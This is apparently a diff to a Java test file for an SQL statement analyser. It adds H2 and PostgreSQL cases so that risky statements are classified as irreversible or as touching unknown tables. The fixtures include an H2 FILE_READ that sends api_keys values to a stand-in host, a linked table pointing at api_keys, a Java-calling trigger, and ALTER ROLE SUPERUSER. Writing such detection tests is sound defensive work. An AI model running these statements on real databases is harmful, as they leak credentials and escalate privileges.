@@ -17,6 +17,7 @@ class SqlAnalysisTest {
         "H2 ## SELECT FILE_READ('https://c.example/?k=' || (SELECT v FROM api_keys)) ## IRREVERSIBLE ## sql.function ## FILE_READ",
         "H2 ## SELECT * FROM LINK_SCHEMA('L', '', 'jdbc:h2:mem:x', 'sa', '', 'PUBLIC') ## IRREVERSIBLE ## sql.function ## LINK_SCHEMA",
         "H2 ## SELECT NEXT VALUE FOR seq ## IRREVERSIBLE ## sql.function ## NEXT VALUE FOR",
+        "H2 ## CREATE LINKED TABLE l('', 'jdbc:h2:mem:x', 'sa', '', 'api_keys') ## IRREVERSIBLE ## sql.function ## LINKED TABLE",
         "H2 ## SELECT my_alias(1) ## IRREVERSIBLE ## sql.function ## MY_ALIAS",
         "H2 ## SELECT UPPER(name) FROM t ## READ ## sql.read ## query",
         "POSTGRESQL ## SELECT setval('s', 1) ## IRREVERSIBLE ## sql.function ## SETVAL",
@@ -110,6 +111,10 @@ class SqlAnalysisTest {
         "POSTGRESQL ## SELECT query_to_xml('SELECT * FROM api_keys', true, true, '') ## (unknown)",
         "H2 ## SELECT my_alias(id) FROM orders ## orders, (unknown)",
         "POSTGRESQL ## SELECT public.nextval('s') ## (unknown)",
+        // statements the parser only knows by their first words: any table, and so none the allowlist admits
+        "H2 ## CREATE TRIGGER t BEFORE INSERT ON orders CALL 'org.example.Trigger' ## (unknown)",
+        "POSTGRESQL ## ALTER ROLE x SUPERUSER ## (unknown)",
+        "H2 ## CREATE LINKED TABLE l('', 'jdbc:h2:mem:x', 'sa', '', 'api_keys') ## l, (unknown)",
         // benign twins: exactly the tables they use
         "H2 ## WITH big AS (SELECT * FROM orders WHERE amount > 100) SELECT * FROM big ## orders",
         "POSTGRESQL ## WITH big AS (SELECT * FROM orders), bigger AS (SELECT * FROM big) SELECT * FROM bigger ## orders",
